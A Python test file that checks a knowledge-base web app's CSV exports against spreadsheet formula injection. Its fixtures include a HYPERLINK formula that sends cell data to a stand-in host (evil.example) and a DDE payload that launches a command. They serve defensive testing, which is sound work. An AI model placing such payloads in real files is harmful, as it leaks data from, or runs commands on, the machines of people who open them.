"""Every CSV the app writes is safe to open in a spreadsheet: no cell starts a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner

from graph.csv_cells import FORMULA_STARTS, PLAIN_NUMBER, csv_text, safe_cell
from graph.model import ChangeNote, Node

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
ATTACKS = {"name_nl": FORMULA, "name_en": "+cmd|' /C calc'!A0", "name_fr": "-2+3", "name_es": "@SUM(1+1)*cmd",
           "name": "\t=1+1", "summary_nl": "\r=1+1"}


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-1+1", "@A1", "\t=1", "\r=1", "=1"])
def test_a_formula_becomes_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-70.5", "+32", "-1e5", "12", "Herent", "", None, 3, -2.5, "a=b", "'x"])
def test_numbers_and_ordinary_text_stay_as_they_are(value):
    assert safe_cell(value) == ("" if value is None else str(value))


def test_csv_text_neutralises_every_cell():
    text = csv_text([["Id", "Label"], ["a", FORMULA], ["-1+2", "-70.25"]])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["Id", "Label"], ["a", "'" + FORMULA], ["'-1+2", "-70.25"]]


def _unsafe_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row
            if cell.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(cell)]


def _poison(store) -> None:
    herent = store.get_node("municipality:herent-belgium")
    store.write([Node(herent.id, herent.kind, ATTACKS)], change=ChangeNote("test", "csv injection"))
    partnership = store.get_node("partnership:herent-nimlahakok")
    store.write([Node(partnership.id, partnership.kind, {"name_nl": FORMULA, "name": "@x"})],
                change=ChangeNote("test", "csv injection"))


def test_the_network_pages_csv_tables_hold_no_formula(client, seeded_store):
    _poison(seeded_store)
    for lang in ("nl", "en", "fr", "es"):
        for table in ("nodes.csv", "edges.csv"):
            text = client.get(f"/{lang}/network/{table}").get_data(as_text=True)
            assert _unsafe_cells(text) == [], (lang, table)
        nodes = client.get(f"/{lang}/network/nodes.csv").get_data(as_text=True)
        assert "'" + FORMULA in [c for row in csv.reader(io.StringIO(nodes, newline="")) for c in row]


def test_kb_export_csv_holds_no_formula(tmp_path, monkeypatch):
    from graph.stores.sqlite.store import EmbeddedStore
    from webapp.cli import main

    monkeypatch.setenv("KB_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.delenv("NEO4J_URI", raising=False)
    runner = CliRunner()
    assert runner.invoke(main, ["seed"], catch_exceptions=False).exit_code == 0
    store = EmbeddedStore(tmp_path / "data")
    _poison(store)
    store.close()
    result = runner.invoke(main, ["export", "--format", "csv", "-o", str(tmp_path / "tables")], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    for table in ("nodes.csv", "edges.csv"):
        text = (tmp_path / "tables" / table).open(encoding="utf-8", newline="").read()
        assert _unsafe_cells(text) == [], table
    assert "'" + FORMULA in (tmp_path / "tables" / "nodes.csv").read_text(encoding="utf-8").replace('""', '"')
